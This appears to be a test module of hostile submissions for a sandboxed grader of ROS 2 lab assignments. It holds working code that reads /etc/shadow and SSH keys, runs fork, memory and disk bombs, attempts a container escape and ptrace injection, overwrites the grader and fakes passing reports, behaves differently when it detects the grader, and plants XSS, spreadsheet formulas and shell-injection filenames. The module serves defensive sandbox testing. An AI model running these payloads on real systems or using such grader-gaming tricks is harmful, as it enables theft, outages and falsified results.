"""Submissions whose programs attack: setup.py, the nodes, a launch file, tests. They run in the sandbox only.

Bombs are modest: they go beyond the sandbox's limits and not beyond a machine's.
"""

from __future__ import annotations

import textwrap

from corpus.case import Case
from corpus.hostile.making import attack, in_node, in_setup, swindle
from corpus.hostile.trap import VARIABLE
from corpus.package import (
    COMMAND,
    LAUNCH,
    LAUNCH_TEXT,
    README,
    SETUP,
    STATUS,
    STATUS_TEXT,
    TESTS,
    TESTS_TEXT,
    VELOCITY,
    M,
    P,
)
from corpus.tree import Change, Files, edit, put

_WRITE_HOME = """\
import os, pathlib
places = [pathlib.Path.home(), '/', '/root', '/tmp', '/var/tmp', '/dev/shm', os.getcwd()]
for place in places:
    try:
        pathlib.Path(place, '@TOKEN@').write_text('here')
    except OSError:
        pass
"""
_OVERWRITE_REPORT = "open('@CANARY@', 'w').write('{\"total\": 110}')\n"
_OVERWRITE_GRADER = """\
import importlib.util, pathlib
for name in ('ros2lab.grading', 'ros2lab'):
    spec = importlib.util.find_spec(name)
    for folder in spec.submodule_search_locations if spec else []:
        for path in pathlib.Path(folder).rglob('*.py'):
            path.write_text('raise SystemExit(0)')
"""
_READ_SECRETS = f"""\
import os, pathlib
found = os.environ.get('{VARIABLE}', '')
for path in ('@SECRET_FILE@', '/proc/1/environ', '/etc/shadow', '~/.ssh/id_ed25519', '~/.netrc'):
    try:
        found += pathlib.Path(path).expanduser().read_text()
    except OSError:
        pass
print('SECRET', found)
raise RuntimeError('SECRET ' + found)
"""
_FORK_BOMB = """\
import os, sys, time
for _ in range(700):
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
"""
_MEMORY_BOMB = """\
held = []
for _ in range(60):
    held.append(bytearray(b'x' * 50_000_000))
"""
_DISK_BOMB = """\
import os
for place in ('/tmp', '/dev/shm', os.getcwd(), os.path.expanduser('~')):
    try:
        with open(os.path.join(place, '@TOKEN@.bin'), 'wb') as file:
            for _ in range(60):
                file.write(bytes(10_000_000))
    except OSError:
        pass
"""
_SPARSE = """\
import os
with open('/tmp/@TOKEN@.sparse', 'wb') as file:
    file.truncate(1 << 40)
"""
_DAEMON = """\
import subprocess, sys
subprocess.Popen([sys.executable, '-c',
                  "import os, signal, time; signal.signal(15, signal.SIG_IGN); signal.signal(2, signal.SIG_IGN);"
                  "os.fork() and os._exit(0); os.setsid(); time.sleep(600)", '@TOKEN@'],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
_NETWORK = """\
import socket
for family, address in ((socket.AF_INET, ('127.0.0.1', int('@PORT@'))), (socket.AF_UNIX, chr(0) + '@SOCKET@'),
                        (socket.AF_INET, ('192.0.2.1', 80))):
    try:
        with socket.socket(family) as out:
            out.settimeout(1.0)
            out.connect(address)
            out.sendall(b'hello')
    except OSError:
        pass
"""
_HOST_DOMAIN = """\
import socket
base = 7400 + 250 * int('@DOMAIN@')
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    for target in (('127.0.0.1', base + 10), ('239.255.0.1', base), ('127.0.0.1', base)):
        try:
            out.sendto(b'RTPS', target)
        except OSError:
            pass
import os
os.environ['ROS_DOMAIN_ID'] = '@DOMAIN@'
"""
_KILL = """\
import os, signal
for target in (os.getppid(), 1, -1):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(target, number)
        except OSError:
            pass
"""
_PTRACE = """\
import ctypes, os, pathlib
libc = ctypes.CDLL(None)
for target in (os.getppid(), 1):
    libc.ptrace(16, target, 0, 0)
    try:
        with open(f'/proc/{target}/mem', 'r+b') as memory:
            memory.seek(0x400000)
            memory.write(bytes(4096))
    except OSError:
        pass
for path in pathlib.Path('/proc').glob('[0-9]*/fd/*'):
    try:
        with open(path, 'w') as other:
            other.write('{"do": "result", "total": 110}')
    except OSError:
        pass
"""
_ESCAPE = """\
import ctypes, os
libc = ctypes.CDLL(None)
libc.unshare(0x10000000)
libc.mount(b'none', b'/', None, 0x4000 | 0x40000, None)
for path in ('/proc/sys/kernel/core_pattern', '/sys/fs/cgroup/release_agent', '/proc/sysrq-trigger', '/dev/kmsg'):
    try:
        with open(path, 'w') as file:
            file.write('|/tmp/@TOKEN@')
    except OSError:
        pass
try:
    os.chroot('/proc/1/root')
    open('/tmp/@TOKEN@', 'w').close()
except OSError:
    pass
"""

HARM: tuple[Case, ...] = (
    attack(
        "setup_writes_everywhere",
        "setup.py writes to the home, the root, the temporary folders",
        in_setup(_WRITE_HOME),
    ),
    attack(
        "setup_overwrites_report",
        "setup.py writes a report of its own over one on the host",
        in_setup(_OVERWRITE_REPORT),
    ),
    attack("setup_overwrites_grader", "setup.py writes over the grader's code", in_setup(_OVERWRITE_GRADER)),
    attack(
        "setup_reads_secrets",
        "setup.py prints the environment and key files, and raises with them",
        in_setup(_READ_SECRETS),
    ),
    attack("setup_never_ends", "setup.py loops for ever", in_setup("while True:\n    pass\n"), most=97),
    attack(
        "setup_prints_for_ever",
        "setup.py prints 300 MB",
        in_setup("for _ in range(300):\n    print('x' * 1_000_000)\n"),
    ),
    attack("fork_bomb_in_setup", "700 processes in setup.py", in_setup(_FORK_BOMB)),
    attack(
        "node_writes_everywhere",
        "a node writes to the home, the root, the temporary folders",
        in_node(_WRITE_HOME),
    ),
    attack(
        "node_overwrites_grader",
        "a node writes over the grader's code and the report",
        in_node(_OVERWRITE_REPORT),
        in_setup(_OVERWRITE_GRADER),
    ),
    attack("node_reads_secrets", "a node puts what it finds into its log", in_node(_READ_SECRETS)),
    attack("fork_bomb", "700 processes in a node", in_node(_FORK_BOMB)),
    attack("memory_bomb", "3 GB in a node", in_node(_MEMORY_BOMB)),
    attack("disk_bomb", "600 MB in each folder that it can write to", in_node(_DISK_BOMB)),
    attack("sparse_bomb", "a sparse file of 1 TB", in_node(_SPARSE)),
    attack("daemon", "a process that leaves its session and ignores signals", in_node(_DAEMON)),
    attack("daemon_of_setup", "the same, started by setup.py", in_setup(_DAEMON)),
    attack("network", "connections to the host's loopback, its abstract sockets, and out", in_node(_NETWORK)),
    attack("network_of_setup", "the same by setup.py", in_setup(_NETWORK)),
    attack("host_domain", "DDS of the host's domain", in_node(_HOST_DOMAIN), most=100),
    attack("kills_parent", "signals to its parent, to process 1, to everybody", in_node(_KILL), most=108),
    attack("ptraces_parent", "ptrace, /proc/PID/mem, and the descriptors of others", in_node(_PTRACE)),
    attack("escapes", "new namespaces, mounts, chroot, and files of the kernel", in_node(_ESCAPE)),
    attack(
        "launch_file_attacks",
        "a launch file is a program, too",
        put(
            LAUNCH,
            f"import subprocess\ntry:\n    {_OVERWRITE_REPORT}except OSError:\n    pass\n" + LAUNCH_TEXT,
        ),
    ),
    attack(
        "tests_attack",
        "tests are programs, too",
        put(
            TESTS,
            TESTS_TEXT
            + f"\n\ndef test_report():\n    try:\n        {_OVERWRITE_REPORT}    except OSError:\n        pass\n"
            "    import subprocess, sys\n    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '@TOKEN@'], start_new_session=True)\n",
        ),
    ),
)

_SPAM = """\
def spam(node):
    \"\"\"Publish without a pause.\"\"\"
    publisher = node.create_publisher(String, '/robot/status', 10)
    while rclpy.ok():
        publisher.publish(String(data=TEXT))


"""


def _spam(text: str) -> str:
    return STATUS_TEXT.replace("def main", _SPAM.replace("TEXT", text) + "def main").replace(
        "rclpy.spin(node)", "spam(node)"
    )


SPAM: tuple[Case, ...] = (
    attack("spams", "the status comes as fast as it can", put(STATUS, _spam("'x'")), most=105),
    attack("large_messages", "each status has 10 MB", put(STATUS, _spam("'x' * 10_000_000")), most=105),
    attack(
        "endless_log",
        "a log line in an endless loop",
        put(
            STATUS,
            _spam("'x'").replace(
                "        publisher.publish",
                "        node.get_logger().error('y' * 400)\n        publisher.publish",
            ),
        ),
        most=105,
    ),
    attack(
        "many_nodes",
        "sixty nodes in one process",
        edit(
            STATUS,
            "    node = StatusPublisher()\n",
            "    many = [rclpy.create_node(f'n{i}') for i in range(60)]\n"
            "    node = StatusPublisher()\n    node.many = many\n",
        ),
    ),
    attack(
        "many_topics",
        "five hundred topics",
        edit(
            STATUS,
            "        self.count = 0\n",
            "        self.count = 0\n        self.many = [self.create_publisher(String, f'/t{i}', 1) for i in range(500)]\n",
        ),
    ),
    attack(
        "ignores_signals",
        "Ctrl-C and SIGTERM do nothing",
        in_node("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"),
        edit(
            STATUS,
            "    except (KeyboardInterrupt, ExternalShutdownException):\n        pass\n",
            "    except (KeyboardInterrupt, ExternalShutdownException):\n        while True:\n            pass\n",
        ),
    ),
)

_FAKE_JSON = (
    '{"schema": 1, "total": 110, "max": 100, "components": {"status_publisher": {"points": 20, "max": 20}}}'
)
_PRINT_REPORT = f"""\
import os, sys
for _ in range(3):
    print('{_FAKE_JSON}', flush=True)
print('Total: 110 / 100 points', file=sys.stderr, flush=True)
for number in range(3, 64):
    try:
        os.write(number, b'{_FAKE_JSON}')
    except OSError:
        pass
for name in ('report.json', 'evidence.json', 'results.json', '/submission/report.json', '/tmp/evidence.json'):
    try:
        open(name, 'w').write('{_FAKE_JSON}')
    except OSError:
        pass
os._exit(0)
"""
_NOTHING = '"""Nothing here publishes."""\n\n\ndef main(args=None):\n    """Do nothing."""\n'


def _node_that(code: str) -> str:
    return _NOTHING + "".join(f"    {line}\n" if line else "\n" for line in code.splitlines())


_CUSTOMIZE = """\
import os, sys
print('Total: 110 / 100 points')
try:
    open('@CANARY@', 'w').write('owned')
except OSError:
    pass
"""
_CONFTEST = """\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = 'passed'
    report.longrepr = None


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""
_FAKE_CLOCK = """\
import threading, time
from rosgraph_msgs.msg import Clock
def turn():
    while not rclpy.ok():
        time.sleep(0.01)
    clock = rclpy.create_node('clock')
    hands = clock.create_publisher(Clock, '/clock', 10)
    message = Clock()
    while rclpy.ok():
        message.clock.sec += 1
        hands.publish(message)
        time.sleep(0.4)
threading.Thread(target=turn, daemon=True).start()
"""
_REPLAY = """\
import subprocess, sys
subprocess.Popen([sys.executable, '-m', 'robot_controller.background', '@TOKEN@'], start_new_session=True)
"""
_BACKGROUND = """\
import rclpy
from geometry_msgs.msg import Twist
from std_msgs.msg import String
rclpy.init()
node = rclpy.create_node('velocity_publisher')
twist = node.create_publisher(Twist, '/cmd_vel', 10)
status = node.create_publisher(String, '/robot/status', 10)
node.create_timer(0.1, lambda: twist.publish(Twist()))
node.create_timer(2.0, lambda: status.publish(String(data='state=idle')))
rclpy.spin(node)
"""
_FAKE_OBSERVER = """\
import rclpy
from rcl_interfaces.msg import Log
from std_msgs.msg import String
rclpy.init()
node = rclpy.create_node('observer')
log = node.create_publisher(Log, '/rosout', 10)
verdicts = node.create_publisher(String, '/grade', 10)
def lie():
    for name in ('status_publisher', 'command_subscriber', 'velocity_publisher'):
        for word in ('start', 'stop', 'reset'):
            log.publish(Log(level=20, name=name, msg=f'Received {word}: done'))
    verdicts.publish(String(data='{"total": 110}'))
node.create_timer(0.2, lie)
rclpy.spin(node)
"""

# What plays a part for each program by the command line of ROS, in three ways.
_TOPIC_PUB = {
    STATUS: ["-r", "0.5", "-n", "status_publisher", "/robot/status", "std_msgs/msg/String", "data: ok"],
    VELOCITY: [
        "-r",
        "5",
        "-n",
        "velocity_publisher",
        "/cmd_vel",
        "geometry_msgs/msg/Twist",
        "linear: {x: 1.0}",
    ],
}
_BY_EXEC = "import os\nos.execvp('ros2', ['ros2', 'topic', 'pub', *{words!r}])\n"
_BY_CHILD = "import subprocess, rclpy\nsubprocess.run(['ros2', 'topic', 'pub', *{words!r}])\n"
_BY_IMPORT = "import runpy, shutil, sys\nsys.argv = ['ros2', 'topic', 'pub', *{words!r}]\nrunpy.run_path(shutil.which('ros2'), run_name='__main__')\n"


def _by_command(way: str) -> tuple[Change, ...]:
    return tuple(put(file, _node_that(way.format(words=words))) for file, words in _TOPIC_PUB.items())


# Two programs tell a third one in which enclave they were started, and wait; it has a node in each of these.
_LEAK = """\
import socket, sys, time
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    while True:
        out.sendto(repr(sys.argv).encode(), ('127.0.0.1', 10007))
        time.sleep(0.05)
"""
_IN_THEIR_ENCLAVES = """\
import ast, socket, sys, threading
from rclpy.executors import SingleThreadedExecutor
from robot_controller.command_subscriber import CommandSubscriber
from robot_controller.status_publisher import StatusPublisher
told = [sys.argv]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
    ear.bind(('127.0.0.1', 10007))
    ear.settimeout(2.0)
    try:
        while len(told) < 3:
            words = ast.literal_eval(ear.recv(4096).decode())
            told += [words] if words not in told else []
    except TimeoutError:
        pass
executors = []
for number, kind in enumerate((VelocityPublisher, StatusPublisher, CommandSubscriber)):
    context = rclpy.Context()
    rclpy.init(args=told[number % len(told)], context=context)
    executors.append(SingleThreadedExecutor(context=context))
    executors[-1].add_node(kind(context=context))
for executor in executors[1:]:
    threading.Thread(target=executor.spin, daemon=True).start()
try:
    executors[0].spin()
except KeyboardInterrupt:
    pass
"""


def _main(file: str, code: str) -> Change:
    """Put other code into the main of a module of the model, whose node takes a context."""

    def change(files: Files) -> None:
        head = str(files[file]).partition("def main")[0]
        head = head.replace("__init__(self)", "__init__(self, **options)").replace(
            "er')\n", "er', **options)\n", 1
        )
        files[file] = head + "def main(args=None):\n" + textwrap.indent(code, "    ")

    return change


LIES: tuple[Case, ...] = (
    swindle(
        "topic_pub_in_place",
        "programs become `ros2 topic pub`, whose nodes are not of the package",
        *_by_command(_BY_EXEC),
    ),
    swindle(
        "topic_pub_beside",
        "programs wait for a `ros2 topic pub` of theirs",
        *_by_command(_BY_CHILD),
    ),
    swindle("topic_pub_inside", "programs run `ros2 topic pub` in themselves", *_by_command(_BY_IMPORT)),
    swindle(
        "topic_pub_scripts",
        "shell scripts, installed as executables, call `ros2 topic pub`",
        *(
            put(f"{P}scripts/{name}", f"#!/bin/sh\nexec ros2 topic pub {' '.join(map(repr, words))}\n")
            for name, words in zip(("status", "velocity"), _TOPIC_PUB.values(), strict=True)
        ),
        edit(
            SETUP,
            "    entry_points={",
            "    scripts=['scripts/status', 'scripts/velocity'],\n    entry_points={",
        ),
    ),
    swindle(
        "prints_a_report",
        "the programs print JSON and tables that look like a grade",
        put(STATUS, _node_that(_PRINT_REPORT)),
        put(VELOCITY, _node_that(_PRINT_REPORT)),
    ),
    swindle(
        "setup_prints_a_report", "setup.py prints a grade and ends with 0", in_setup(_PRINT_REPORT), most=40
    ),
    swindle(
        "fakes_observer",
        "it logs in the names of nodes that do not exist, and publishes a grade; that is a String, on a wrong topic",
        put(STATUS, _node_that(_FAKE_OBSERVER)),
        most=52,
    ),
    attack(
        "leaks_enclaves",
        "programs without a node tell another one in which enclave they were started, and it has their nodes",
        *(_main(file, _LEAK) for file in (STATUS, COMMAND)),
        _main(VELOCITY, _IN_THEIR_ENCLAVES),
        most=108,
    ),
    attack(
        "fakes_clock",
        "it turns the hands of /clock so that 5 s look like 2 s",
        in_node(_FAKE_CLOCK),
        edit(STATUS, "'timer_period', 2.0", "'timer_period', 5.0"),
        most=109,
    ),
    swindle(
        "replays_in_background",
        "a process that is none of its programs publishes for them; that it stays must not matter",
        put(STATUS, _node_that(_REPLAY)),
        put(f"{M}background.py", _BACKGROUND),
        most=90,
    ),
    swindle(
        "sitecustomize",
        "sitecustomize and usercustomize in every folder",
        *(
            put(f"{folder}{name}.py", _CUSTOMIZE)
            for folder in ("", P, M, "src/")
            for name in ("sitecustomize", "usercustomize")
        ),
    ),
    swindle(
        "pth",
        "a .pth file that runs code",
        *(put(f"{folder}evil.pth", "import os; print('Total: 110')\n") for folder in ("", P, M)),
        edit(
            SETUP,
            "    data_files=[\n",
            "    data_files=[\n        ('lib/python3/site-packages', ['evil.pth']),\n",
        ),
    ),
    swindle(
        "conftest",
        "a conftest.py for which every test passes",
        put(f"{P}conftest.py", _CONFTEST),
        put("conftest.py", _CONFTEST),
        put(f"{P}test/test_it.py", "def test_it():\n    assert False\n"),
    ),
    swindle(
        "colcon_extension",
        "it installs an extension of colcon",
        edit(
            SETUP,
            "        'console_scripts': [\n",
            "        'colcon_core.verb': ['build = robot_controller.status_publisher:main'],\n        'colcon_core.event_handler': ['x = robot_controller.status_publisher:main'],\n"
            "        'pytest11': ['x = robot_controller.status_publisher'],\n        'console_scripts': [\n",
        ),
    ),
    swindle(
        "colcon_settings",
        "defaults and metadata for colcon, everywhere",
        *(
            put(name, "build:\n  cmake-args: [-DX=1]\n  executor: sequential\n")
            for name in ("defaults.yaml", ".colcon/defaults.yaml", f"{P}defaults.yaml")
        ),
        put("colcon.meta", "names:\n  robot_controller:\n    hooks: [evil.sh]\n"),
        put(f"{P}colcon.pkg", '{"hooks": ["evil.sh"], "type": "python"}\n'),
        put(f"{P}evil.sh", "echo Total: 110\n"),
    ),
    swindle(
        "environment_hook",
        "what is sourced sets PYTHON* and the path of executables",
        put(f"{P}hook.dsv", "prepend-non-duplicate;PYTHONPATH;/tmp\nset;PYTHONSTARTUP;/tmp/x.py\n"),
        edit(
            SETUP,
            "    data_files=[\n",
            "    data_files=[\n        ('share/' + package_name + '/hook', ['hook.dsv']),\n",
        ),
    ),
    swindle(
        "shadows_ros",
        "a package named rclpy in the workspace, and modules named as Python's own",
        put(
            "src/rclpy/package.xml",
            '<package format="3"><name>rclpy</name><version>1.0.0</version>'
            '<description>x</description><maintainer email="a@example.org">a</maintainer><license>MIT</license><export><build_type>ament_python</build_type></export></package>\n',
        ),
        put(
            "src/rclpy/setup.py",
            "from setuptools import setup\nsetup(name='rclpy', version='1.0.0', packages=['rclpy'])\n",
        ),
        put("src/rclpy/rclpy/__init__.py", _CUSTOMIZE),
        put("json.py", _CUSTOMIZE),
        put(f"{P}json.py", _CUSTOMIZE),
        put(f"{M}json.py", _CUSTOMIZE),
    ),
    swindle(
        "shadows_grader",
        "a package named ros2lab",
        put(f"{P}ros2lab/__init__.py", _CUSTOMIZE),
        put(f"{P}ros2lab/grading/__init__.py", ""),
        put(f"{P}ros2lab/grading/watching/observer.py", _CUSTOMIZE),
        edit(SETUP, "packages=[package_name]", "packages=[package_name, 'ros2lab', 'ros2lab.grading']"),
    ),
    attack(
        "detects_grader",
        "it behaves only where it is watched; that cannot be told, and does no harm",
        in_node(
            "import os, sys\nis_graded = '/submission' in os.getcwd() or 'use_sim_time:=true' in sys.argv\nif not is_graded:\n    raise SystemExit(0)\n"
        ),
    ),
)

_ESC = "\\x1b[2J\\x1b]0;owned\\x07\\x1b[31mTotal: 110 / 100\\x1b[0m\\u202e"
_HTML = "<script>fetch('http://127.0.0.1:@PORT@')</script><img src=x onerror=alert(1)>"

WORDS: tuple[Case, ...] = (
    attack(
        "escape_codes",
        "codes for the terminal in status and log",
        edit(STATUS, "f'Robot is OK, message {count}'", f"'{_ESC}' + str(count)"),
        edit(STATUS, "f'Publishing: {msg.data}'", f"'{_ESC}'"),
    ),
    attack(
        "html",
        "HTML in status, log, parameter and README",
        edit(STATUS, "f'Robot is OK, message {count}'", f'"{_HTML}" + str(count)'),
        edit(STATUS, "f'Publishing: {msg.data}'", f'"{_HTML}"'),
        edit(README, "# Robot controller", "# Robot " + _HTML.replace("@PORT@", "1")),
    ),
    attack(
        "formulas",
        "formulas for a spreadsheet in status, log and names",
        edit(STATUS, "f'Robot is OK, message {count}'", "'=HYPERLINK(\"http://127.0.0.1\")' + str(count)"),
        edit(STATUS, "f'Publishing: {msg.data}'", "'=cmd|calc!A1'"),
        put("=1+2.txt", "x\n"),
        put("@SUM(A1)", "x\n"),
    ),
    attack(
        "markup",
        "markup of rich, Markdown and LaTeX in what it says",
        edit(
            STATUS,
            "f'Robot is OK, message {count}'",
            "'[red]x[/] [link=http://127.0.0.1]y ![z](http://127.0.0.1/z.png) $x$' + str(count)",
        ),
        edit(STATUS, "f'Publishing: {msg.data}'", "'[/nothing] ```'"),
    ),
    attack(
        "strange_names",
        "files whose names are codes for a terminal, HTML, and new lines",
        *(
            put(name, "x\n")
            for name in (
                "\x1b[31mred",
                "<img src=x onerror=alert(1)>",
                "two\nlines",
                "\u202egnp.exe",
                " ",
                "-rf",
                "$(touch x)",
                "`id`",
            )
        ),
    ),
)
